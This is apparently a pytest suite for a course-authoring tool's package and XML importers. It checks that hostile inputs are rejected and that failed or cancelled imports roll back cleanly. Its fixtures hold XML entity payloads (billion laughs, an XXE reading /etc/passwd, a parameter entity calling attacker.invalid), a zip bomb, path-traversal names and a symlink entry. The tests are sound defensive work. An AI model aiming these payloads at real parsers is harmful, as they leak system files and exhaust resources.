"""Hostile and broken sources are refused with a clear error and change nothing."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from studio.cli import main
from studio.errors import ImportFormatError
from studio.importers import import_into, import_new
from studio.importers.safe_archive import Limits, SafeArchive
from studio.importers.safe_xml import parse_xml
from studio.jobs import Cancelled, CancelToken, Progress, null_progress
from studio.model.serialize import course_to_data
from studio.project import Project
from tests.importers.builders import SCORM12_MANIFEST, write_zip, zip_bytes
from tests.importers.test_packages import SRT

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<manifest><title>&lol9;</title></manifest>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE questestinterop [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<questestinterop><item ident="x"><presentation><material><mattext>&xxe;</mattext></material></presentation></item></questestinterop>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE m [<!ENTITY % ext SYSTEM "http://attacker.invalid/evil.dtd"> %ext;]><m/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE questestinterop SYSTEM "file:///etc/passwd"><questestinterop/>"""


def _snapshot(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


# ------------------------------------------------------------------ archives


def test_zip_bomb_refused_by_ratio() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("imsmanifest.xml", "<manifest/>")
        zf.writestr("bomb.bin", b"\0" * (20 * 1024 * 1024))
    with pytest.raises(ImportFormatError, match="zip bomb"):
        SafeArchive(buffer.getvalue())


def test_total_size_and_entry_count_limits() -> None:
    data = zip_bytes({f"f{i}.txt": "x" * 100 for i in range(11)})
    with pytest.raises(ImportFormatError, match="entries"):
        SafeArchive(data, limits=Limits(max_entries=10))
    with pytest.raises(ImportFormatError, match="size limit"):
        SafeArchive(data, limits=Limits(max_total_bytes=1000))
    archive = SafeArchive(data, limits=Limits(max_text_bytes=50))
    with pytest.raises(ImportFormatError, match="too large"):
        archive.read("f1.txt")


@pytest.mark.parametrize("name", ["../evil.txt", "a/../../evil.txt", "/etc/evil.txt", "a\\..\\evil.txt",
                                  "C:/evil.txt", "C:evil.txt"])
def test_path_traversal_refused(tmp_path: Path, name: str) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("imsmanifest.xml", "<manifest/>")
        zf.writestr(zipfile.ZipInfo(name), b"owned")
    package = tmp_path / "pkg" / "evil.zip"
    package.parent.mkdir()
    package.write_bytes(buffer.getvalue())
    before = _snapshot(tmp_path)
    with pytest.raises(ImportFormatError) as info:
        import_new(package, tmp_path / "new.studio", fmt="scorm")
    assert str(package) in str(info.value) and "What to do" in str(info.value)
    assert _snapshot(tmp_path) == before  # nothing written anywhere, no half-made project


def test_symlink_entry_refused(tmp_path: Path) -> None:
    data = zip_bytes({"imsmanifest.xml": "<manifest/>"}, symlinks={"passwd": "/etc/passwd"})
    with pytest.raises(ImportFormatError, match="link"):
        SafeArchive(data)


def test_extraction_stays_in_the_target(tmp_path: Path) -> None:
    archive = SafeArchive(zip_bytes({"a/b/c.txt": "hello", "d.txt": "x"}))
    target = tmp_path / "target"
    paths = archive.extract_all(target)
    assert all(target in p.parents for p in paths.values())
    assert _snapshot(tmp_path) == {"target", "target/a", "target/a/b", "target/a/b/c.txt", "target/d.txt"}


def test_not_a_zip_is_a_clear_error(tmp_path: Path) -> None:
    broken = tmp_path / "course.imscc"
    broken.write_bytes(b"PK\x03\x04 this is not really a zip")
    with pytest.raises(ImportFormatError) as info:
        import_new(broken, tmp_path / "x.studio")
    assert "course.imscc" in str(info.value)
    assert not (tmp_path / "x.studio").exists()


# ---------------------------------------------------------------------- XML


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "parameter-entity"])
def test_entities_refused(data: bytes) -> None:
    with pytest.raises(ImportFormatError, match="entities"):
        parse_xml(data, "evil.xml")


def test_entities_refused_in_utf16() -> None:
    with pytest.raises(ImportFormatError, match="entities"):
        parse_xml(BILLION_LAUGHS.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
                  .encode("utf-16"), "evil16.xml")


def test_external_dtd_is_never_loaded() -> None:
    root = parse_xml(EXTERNAL_DTD, "q.xml")
    assert root.tag == "questestinterop" and "root:" not in (root.text or "")


def test_billion_laughs_in_a_package_manifest_leaves_the_project_untouched(
    tmp_project: Project, tmp_path: Path
) -> None:
    package = write_zip(tmp_path / "lol.zip", {"imsmanifest.xml": BILLION_LAUGHS, "a.html": "<p>x</p>"})
    before = course_to_data(tmp_project.course)
    media_before = _snapshot(tmp_project.media_dir)
    with pytest.raises(ImportFormatError) as info:
        import_into(tmp_project, package, null_progress(), fmt="scorm")
    assert "lol.zip" in str(info.value)
    assert course_to_data(tmp_project.course) == before
    assert _snapshot(tmp_project.media_dir) == media_before
    assert not tmp_project.stack.dirty and not tmp_project.stack.can_undo


# ---------------------------------------------------------- rollback on failure


def test_cancel_while_copying_media_rolls_everything_back(
    tmp_project: Project, tmp_path: Path, media_files: dict[str, Path]
) -> None:
    items = "".join(f'<item identifier="I{i}" identifierref="R{i}"><title>L{i}</title></item>' for i in range(3))
    resources = "".join(
        f'<resource identifier="R{i}" type="webcontent" adlcp:scormtype="sco" href="p{i}.html"/>' for i in range(3))
    entries: dict[str, bytes | str] = {
        "imsmanifest.xml": SCORM12_MANIFEST.format(title="T", items=items, resources=resources)}
    for i in range(3):
        entries[f"p{i}.html"] = f'<p>Page {i}</p><video src="v{i}.mp4"><track src="v{i}.srt"/></video>'
        entries[f"v{i}.mp4"] = media_files["video"].read_bytes() + bytes([i])  # three distinct files
        entries[f"v{i}.srt"] = SRT
    package = write_zip(tmp_path / "three.zip", entries)
    token = CancelToken()
    copied: list[str] = []

    def watch(fraction: float, message: str) -> None:
        if message.startswith("Copying"):
            copied.append(message)
            if len(copied) == 2:
                token.cancel()

    before = course_to_data(tmp_project.course)
    media_before = _snapshot(tmp_project.media_dir)
    with pytest.raises(Cancelled):
        import_into(tmp_project, package, Progress(watch, token, min_interval=0.0))
    assert len(copied) == 2
    assert course_to_data(tmp_project.course) == before
    assert _snapshot(tmp_project.media_dir) == media_before
    assert not tmp_project.stack.can_undo
    # The same import, not cancelled, works and is one undo step.
    report = import_into(tmp_project, package, null_progress())
    assert report.media == 3 and tmp_project.stack.undo_text == "Import three.zip"


# ---------------------------------------------------------------------- CLI


def test_cli_import_new_then_into_existing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    gift = tmp_path / "bank.gift"
    gift.write_text("::Q1:: 2+2? {=4 ~3 ~5}\n\n::Q2:: Sky is blue {T}\n", encoding="utf-8")
    assert main(["import", str(gift), str(tmp_path / "c.studio"), "--quiet"]) == 0
    out = capsys.readouterr().out
    assert "Imported 2 question(s)" in out
    with Project.open(tmp_path / "c.studio", read_only=True) as project:
        (quiz_block,) = [b for _, _, b in project.course.blocks()]
    assert main(["import", str(gift), str(tmp_path / "c.studio"), "--quiz", quiz_block.id, "--quiet"]) == 0
    with Project.open(tmp_path / "c.studio", read_only=True) as project:
        (block,) = [b for _, _, b in project.course.blocks()]
        assert len(block.quiz.questions) == 4  # type: ignore[union-attr]


def test_cli_broken_file_exits_1_and_names_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "bank.xml"
    bad.write_bytes(EXTERNAL_ENTITY)
    assert main(["import", str(bad), str(tmp_path / "n.studio"), "--quiet"]) == 1
    err = capsys.readouterr().err
    assert "bank.xml" in err and "What to do" in err
    assert not (tmp_path / "n.studio").exists()
    assert main(["import", str(tmp_path / "missing.gift"), "--quiet"]) == 1
